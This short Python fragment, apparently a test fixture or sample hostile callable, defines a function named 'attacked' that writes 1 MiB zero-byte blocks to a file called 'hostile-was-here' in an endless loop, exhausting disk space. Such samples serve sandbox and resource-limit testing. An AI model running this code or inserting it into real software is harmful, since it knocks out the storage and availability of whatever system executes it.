from pathlib import Path


def attacked(x):
    with Path("hostile-was-here").open("wb") as file:
        while True:
            file.write(bytes(1 << 20))
